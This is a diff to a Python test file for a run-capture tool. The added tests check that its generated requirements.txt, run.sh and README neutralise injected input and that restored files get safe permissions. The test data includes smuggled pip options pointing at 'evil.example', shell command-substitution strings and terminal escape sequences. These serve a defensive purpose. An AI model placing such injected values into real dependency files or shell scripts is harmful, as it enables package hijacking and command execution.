@@ -4,6 +4,7 @@ import contextlib
 import json
 import os
 import platform
+import re
 import select
 import shutil
 import signal
@@ -20,6 +21,7 @@ from vedette.capture import environment, git, machine, packages
 from vedette.capture.__main__ import Program
 from vedette.capture.package import pack
 from vedette.capture.tree import choose
+from vedette.cli import reproduce
 from vedette.client.capturing import Brief
 from vedette.errors import NotFoundError
 from vedette.model import LANE_FACTS
@@ -488,11 +490,57 @@ def test_the_machine():
     assert "memory_bytes" not in machine.describe("/nowhere")
 
 
-def test_no_name_of_a_package_is_an_option():
-    """What a run says its packages are is a list of names, and none of them an option of pip's."""
-    found = {"numpy": "1.0", "-rhttps": "1", "--pre": "1", "a b": "1", "torch": "-e"}
-    text = recipe("r1", "one", {}, {}, [], found, {}).texts["requirements.txt"]
-    assert [line for line in text.splitlines() if not line.startswith("#")] == ["numpy==1.0"]
+EVIL = (
+    "\n--index-url https://evil.example\r\x0b\u2028-e . # \x1b[2Jcoding: utf-7 +AAo--pre"
+    " '$(touch ran)'`touch ran`;touch ran\n"
+)
+
+
+def test_no_attribute_is_an_option_of_pip():
+    """Of all that a run says of its packages only names and versions reach pip; the rest are comments in one line."""
+    found = {"numpy": "1.0", "torch": "2.5.1+cu121", "PyYAML": "6.0rc1.post2.dev3", "a": "1!2.0", "local": "1.0"}
+    bad = {"-rhttps": "1", "--pre": "1", "a b": "1", "torch2": "-e", "x": "1.0\n--pre", "y\n--pre": "1", "z": "1 --pre"}
+    bad |= {
+        "ä": "1",
+        "n": "\u0661",
+        "h": "1;x",
+        "u": "@ https://evil.example",
+        "": "1",
+        f"e{EVIL}": "1",
+        "v": f"1{EVIL}",
+    }
+    made = recipe("r1", EVIL, {"python": f"3.11{EVIL}"}, {}, [], found | bad, {"local": EVIL, "z": "\ud800"})
+    lines = re.split(r"[\n\r\x0b\x0c\x1c-\x1e\x85\u2028\u2029]", made.texts["requirements.txt"].strip())
+
+    assert [line for line in lines if not line.startswith("# ")] == [
+        "a==1!2.0", "numpy==1.0", "PyYAML==6.0rc1.post2.dev3", "torch==2.5.1+cu121"
+    ]  # fmt: skip
+    assert lines[:2] == ["# The packages of the run.", "# Python (unknown)"]  # pip reads an encoding from these
+    assert all(line.isprintable() for line in lines)
+    assert "14 of its packages, whose name or version is none that pip takes" in made.missing
+
+
+def test_no_attribute_leaves_its_place_in_the_files(tmp_path):
+    """Whatever a run says of itself, its files are run as one command, and show nothing that a terminal obeys."""
+    words = ["sh", "-c", 'printf "%s|" "$0" "$X" >"$OUT"', EVIL]
+    attrs = {"argv": words, "cwd": f"/r/../..{EVIL}", "code.root": "/r", "env.X": f"{EVIL}\n\n", "project": EVIL}
+    attrs |= {"env.RANK": EVIL, f"env.A{EVIL}": "1", "capture": EVIL, "git.branch": EVIL, "asked.x": EVIL}
+    attrs |= {"code.left_out": 1, "code.left_out_names": [EVIL], "gpu.names": 7, "memory_bytes": EVIL, "host": EVIL}
+    made = recipe("r1", EVIL, attrs, {f"lr{EVIL}": EVIL}, ["a"], {}, {})
+    (tmp_path / "code").mkdir()
+    for name, text in made.texts.items():
+        (tmp_path / name).write_text(text)
+        assert text.replace("\n", "").isprintable(), name
+    out = tmp_path / "out"
+    subprocess.run(["sh", str(tmp_path / "run.sh")], env={**os.environ, "OUT": str(out)}, check=True)
+    headings = [line for line in made.texts["README.md"].splitlines() if line.startswith(("#", "```"))]
+
+    with open(out, newline="") as file:
+        assert file.read() == f"{EVIL}|{EVIL}\n\n|"
+    assert sorted(os.listdir(tmp_path)) == ["README.md", "code", "env.sh", "out", "run.sh"]
+    assert os.listdir(tmp_path / "code") == []
+    assert headings[1:] == ["## To run it again", "```sh", "```", "## What is missing", "## Its config"]
+    assert recipe("r1", "one", {"argv": 7}, {}, [], {}, {}).missing[-1] == "its command"
 
 
 def test_what_was_asked_for_is_asked_for_again():
@@ -536,6 +584,27 @@ def test_a_path_twice():
         with pytest.raises(FormatError, match="twice"):
             manifest.read(manifest.write([manifest.Entry("a", "0" * 64, 1), manifest.Entry(other, "0" * 64, 1)]))
     assert stat.S_IMODE(manifest.Entry("a", "", 1).mode) == 0o644
+
+
+def test_a_manifest_makes_nothing_that_others_can_write_to(tmp_path):
+    """Of a mode only counts whether its owner may run the file: it is 0755 or 0644, less the umask."""
+    modes = (0o777, 0o666, 0o100, 0o4755, 0o2777, 0o7777, 0o600, 0, -1)
+    entries = [manifest.Entry(f"d/f{at}", "0" * 64, 1, mode) for at, mode in enumerate(modes)]
+    found = {}
+    for umask in (0, 0o077):
+        before = os.umask(umask)
+        try:
+            reproduce._check(str(tmp_path / f"{umask:o}" / "d"), force=False)
+            reproduce._write_code(
+                lambda _: b"x", manifest.read(manifest.write(entries)), str(tmp_path / f"{umask:o}" / "d")
+            )
+        finally:
+            os.umask(before)
+        paths = sorted((tmp_path / f"{umask:o}").rglob("*"), key=lambda path: (len(path.parts), path.name))
+        found[umask] = [stat.S_IMODE(os.lstat(path).st_mode) for path in paths]
+
+    assert found[0] == [0o755] * 3 + [0o755, 0o644, 0o755, 0o755, 0o755, 0o755, 0o644, 0o644, 0o755]
+    assert found[0o077] == [mode & 0o700 for mode in found[0]]
 
 
 def test_its_word_is_the_last(home, tmp_path):
